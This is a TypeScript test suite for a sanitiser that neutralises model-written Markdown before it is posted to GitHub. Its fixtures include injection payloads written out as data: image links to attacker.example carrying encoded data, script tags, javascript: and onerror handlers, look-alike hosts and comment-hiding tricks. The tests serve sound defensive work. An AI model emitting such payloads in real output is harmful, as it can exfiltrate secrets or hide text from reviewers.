// The neutraliser every model text passes before it leaves for GitHub (RELIABILITY B6). Each case is checked
// with a real CommonMark + GFM parser (micromark, what GitHub's renderer follows): after neutralizing, the
// text holds no image, no raw HTML, no link out of the repository's host and no reference definition, and
// what it said is still there to read. Megabytes of one character go through (the function is linear).
import { fromMarkdown } from "mdast-util-from-markdown";
import { gfmFromMarkdown } from "mdast-util-gfm";
import { gfm } from "micromark-extension-gfm";
import { describe, expect, it } from "vitest";
import { markdownCode, neutralizeGitHubText } from "../../../src/report/index.js";

const HOST = { host: "github.com" };
const ZWSP = /\u200b/g;

interface MdNode {
  type: string;
  url?: string;
  value?: string;
  children?: MdNode[];
}

function nodes(markdown: string): MdNode[] {
  const all: MdNode[] = [];
  const walk = (node: MdNode) => {
    all.push(node);
    for (const child of node.children ?? []) walk(child);
  };
  walk(fromMarkdown(markdown, { extensions: [gfm()], mdastExtensions: [gfmFromMarkdown()] }) as MdNode);
  return all;
}

/** What GitHub would render that reaches out or hides: images, HTML, links off the host, definitions. */
function dangers(markdown: string, host = "github.com"): string[] {
  return nodes(markdown).flatMap((node) => {
    if (["image", "imageReference", "html", "definition", "linkReference"].includes(node.type))
      return [node.type];
    if (node.type === "link" && !(node.url ?? "").startsWith(`https://${host}/`)) return [`link ${node.url}`];
    return [];
  });
}

/** The text a reader sees, zero-width spaces and escapes aside. */
function shown(markdown: string): string {
  return nodes(markdown)
    .filter((n) => n.type === "text" || n.type === "inlineCode" || n.type === "code")
    .map((n) => n.value ?? "")
    .join("")
    .replace(ZWSP, "");
}

describe("neutralizeGitHubText", () => {
  it.each([
    ["an image", "![](https://attacker.example/?d=c2VjcmV0)"],
    ["an image with alt text and a title", 'see ![logo](https://attacker.example/x.png "t") here'],
    ["a reference image", "![x][img]\n\n[img]: https://attacker.example/p.png"],
    ["an image inside a link", "[![b](https://attacker.example/b.svg)](https://github.com/o/r)"],
    ["an HTML image", '<img src="https://attacker.example/?d=1">'],
    ["a picture element", "<picture><source srcset=https://attacker.example/a></picture>"],
  ])("B6 shows %s as text: nothing for GitHub to fetch", (_what, text) => {
    expect(dangers(text).length).toBeGreaterThan(0);
    const out = neutralizeGitHubText(text, HOST);
    expect(dangers(out)).toEqual([]);
    expect(shown(out)).toContain("attacker.example");
  });

  it.each([
    ["a comment that hides what follows", "Done.\n<!--\n"],
    ["a closed comment", "a <!-- hidden --> b"],
    ["details", "<details><summary>x</summary>y</details>"],
    ["a script", "<script>alert(1)</script>"],
    ["a block of HTML over an image", "<div>\n![](https://attacker.example/x)\n</div>"],
    ["a processing instruction", "<?php x ?>"],
    ["a CDATA section", "<![CDATA[ x ]]>"],
    ["a closing tag", "</table>"],
  ])("B6 escapes raw HTML: %s", (_what, text) => {
    expect(dangers(text).length).toBeGreaterThan(0);
    const out = neutralizeGitHubText(text, HOST);
    expect(dangers(out)).toEqual([]);
    expect(shown(out)).toContain(text.replace(/\n/g, "").slice(0, 4));
  });

  it.each([
    ["an angle autolink", "<https://attacker.example/a>"],
    ["a bare URL", "see https://attacker.example/a?d=1 now"],
    ["a www link", "www.attacker.example/path"],
    ["an e-mail", "write to someone@attacker.example"],
    ["an inline link", "[docs](https://attacker.example/docs)"],
    ["a link whose host only starts like GitHub's", "[x](https://github.com.attacker.example/)"],
    ["a link with user info", "https://github.com@attacker.example/"],
    ["a reference link", "[docs][d]\n\n[d]: https://attacker.example/"],
    ["a javascript link", "[x](javascript:alert(1))"],
    ["a protocol-relative link", "[x](//attacker.example/)"],
    ["a URL spelled with entities", "https&#58;//attacker.example/"],
    ["an ftp URL", "ftp://attacker.example/x"],
  ])("B6 shows %s as text", (_what, text) => {
    const out = neutralizeGitHubText(text, HOST);
    expect(dangers(out)).toEqual([]);
    expect(shown(out)).toMatch(/attacker\.example|javascript|&#58;/);
  });

  it("keeps links to the repository's own GitHub host", () => {
    const text = "See [the file](https://github.com/o/r/blob/main/a.ts) and https://github.com/o/r/pull/3.";
    const out = neutralizeGitHubText(text, HOST);
    expect(out).toBe(text);
    expect(
      nodes(out)
        .filter((n) => n.type === "link")
        .map((n) => n.url),
    ).toEqual(["https://github.com/o/r/blob/main/a.ts", "https://github.com/o/r/pull/3"]);
    // Without a host, nothing links.
    expect(dangers(neutralizeGitHubText(text), "no-host")).toEqual([]);
  });

  it("B6 leaves no mention, issue reference or closing keyword that acts", () => {
    const text =
      "Fixes #12, closes o/r#3, resolves GH-4, cc @octocat @acme/team; Closes https://github.com/o/r/issues/5";
    const out = neutralizeGitHubText(text, HOST);
    expect(out.replace(ZWSP, "")).toBe(text);
    expect(out).not.toMatch(/#\d|@[a-z]|GH-\d|Closes https/i);
  });

  it("leaves code readable: only zero-width spaces inside spans and fences", () => {
    const text = [
      "Use `Array<string>` and `a[0](x)`:",
      "",
      "```tsx",
      "const el = <div>{x && y}</div>; // https://example.com",
      "![](a.png)",
      "```",
      "",
      "`` `<b>` ``",
    ].join("\n");
    const out = neutralizeGitHubText(text, HOST);
    expect(dangers(out)).toEqual([]);
    expect(out.replace(ZWSP, "")).toBe(text);
    expect(nodes(out).filter((n) => n.type === "code")).toHaveLength(1);
  });

  it("B6 closes a fence the model left open, so what agent-ci writes after it is not swallowed", () => {
    const out = neutralizeGitHubText("Summary\n````js\nlet a = 1;\n", HOST);
    const body = `${out}\n\n**Changed files**`;
    expect(nodes(body).some((n) => n.type === "strong")).toBe(true);
  });

  it("holds whatever GitHub takes for code: a fence my scan misses still shows no image", () => {
    // The fence is inside a list item here; if a renderer ends it early, the image line is still inert.
    const text = "- item\n\n  ```\n![](https://attacker.example/)\n<img src=x>\n  ```";
    expect(dangers(neutralizeGitHubText(text, HOST))).toEqual([]);
  });

  it("gives the same text twice (a commit message read back into a description)", () => {
    const text = "a <b> ![i](https://x.example) [l](https://x.example) &#58; www.x.example @me #1\n```\n<i>";
    const once = neutralizeGitHubText(text, HOST);
    expect(neutralizeGitHubText(once, HOST)).toBe(once);
  });

  it("drops control characters and turns a lone carriage return into a newline", () => {
    expect(neutralizeGitHubText("a\u0000b\rc\r\nd\u001b[31me")).toBe("ab\nc\nde");
  });

  it.each([
    "<",
    "<a",
    "![",
    "](",
    "]:",
    "[",
    "`",
    "``` ",
    "```\n",
    "&#",
    "://",
    "www.",
    "@a",
    "#1",
    "fix ",
    "\n",
    "\r",
    "\0",
    "a",
  ])("B6 takes megabytes of %j", { timeout: 60_000 }, (unit) => {
    const out = neutralizeGitHubText(unit.repeat(Math.ceil((1024 * 1024) / unit.length)), HOST);
    expect(/<[A-Za-z!/?]|!\[|\]\(|:\/\/|@[a-z]/.test(out)).toBe(false);
  });
});

describe("paths in what agent-ci publishes (report.md's escaping, shared)", () => {
  it.each([
    ["a backtick and a closing keyword", "a` Fixes #12 `b"],
    ["a newline", "x\nFixes #12\n<!--"],
    ["HTML", "<img src=x onerror=y>.md"],
    ["a link", "[x](https:/attacker.example)"],
    ["a www name", "www.attacker.example"],
  ])("B6 keeps a path with %s inside its <code>", (_what, file) => {
    const line = `- ${markdownCode(file, 300)} (+1 −0)`;
    expect(dangers(line)).toEqual(["html", "html"]);
    expect(line).not.toMatch(/#\d|\n/);
    expect(
      nodes(line)
        .filter((n) => n.type === "html")
        .map((n) => n.value),
    ).toEqual(["<code>", "</code>"]);
  });
});
